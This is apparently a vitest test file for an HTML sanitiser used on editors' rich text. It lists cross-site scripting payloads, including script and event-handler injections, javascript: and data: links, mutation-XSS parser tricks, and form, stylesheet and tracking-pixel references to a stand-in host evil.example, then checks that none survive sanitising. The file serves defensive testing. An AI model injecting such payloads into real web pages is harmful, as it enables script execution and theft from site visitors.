/** Rich text of content: editors' formatting stays, but nothing that runs, loads or restyles gets through. */
import { Window } from 'happy-dom';
import { describe, expect, it } from 'vitest';
import { safeHtml } from './safeHtml.ts';

// sanitize-html has its own parser; these tests check that we allow only our tags, attributes and addresses
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p onclick="alert(1)">x</p>',
  '<a onpointerenter="alert(1)" href="/gallery"onfocus=alert(1)>x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<form action="https://evil.example"><input name="card"></form>',
  '<img src="https://evil.example/pixel.gif" onerror=alert(1)>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p id="root" class="x" data-test="payment.submitted">x</p>',
  '<a href="/gallery" target="_blank" ping="https://evil.example" download="x.exe" name="getElementById">x</a>',
  '<p contenteditable accesskey="x" tabindex="1" autofocus is="x-y" slot="z">x</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<p\x00onclick=alert(1)>x</p>',
];

const ALLOWED_TAGS = 'P BR STRONG EM B I UL OL LI H3 H4 A BLOCKQUOTE SUB SUP'.split(' ');

/** Whether a link has a scheme that pages may link to, or leads to our own site. */
const isHarmless = (href: string): boolean => {
  const { protocol, host } = new URL(href, 'https://breakwater.example/');
  return (
    ['https:', 'http:', 'mailto:', 'tel:'].includes(protocol) && (host !== 'evil.example' || /^https?:/.test(href))
  );
};

/** Everything that a browser would make of the HTML except the allowed tags, attributes and addresses. */
const dangersIn = (html: string): string[] => {
  const { document } = new Window();
  document.body.innerHTML = html;
  return [...document.body.querySelectorAll('*')].flatMap((element) => [
    ...(ALLOWED_TAGS.includes(element.tagName) ? [] : [element.tagName]),
    ...[...element.attributes].flatMap(({ name, value }) => {
      if (!['href', 'rel'].includes(name)) return [`${name}=${value}`];
      return name === 'href' && !isHarmless(value ?? '') ? [`href=${value}`] : [];
    }),
  ]);
};

/** Leaves links unchanged, so that the sanitiser itself has to reject bad addresses. */
const asIs = (href: string): string => href;

it.each(PAYLOADS)('leaves nothing of %s that runs, loads or restyles', (payload) => {
  expect(dangersIn(safeHtml(`before ${payload} after`, asIs))).toEqual([]);
});

describe('what an editor writes', () => {
  it('stays: paragraphs, lists, small headings, emphasis and links', () => {
    const text =
      '<h3>Dogs</h3><p>Only <strong>assistance</strong> dogs.</p><ul><li><a href="/gallery">See</a></li></ul>';
    expect(safeHtml(text, asIs)).toBe(text);
  });

  it('has its links resolved, opens others without handing over this page, and loses those that lead nowhere', () => {
    const resolve = (href: string): string | null => (href === 'bad' ? null : href);
    const text = '<a href="bad">one</a> <a href="https://x.example/">two</a> <a data-type="unknown">three</a>';
    expect(safeHtml(text, resolve)).toBe('<a>one</a> <a href="https://x.example/" rel="noopener">two</a> <a>three</a>');
  });
});
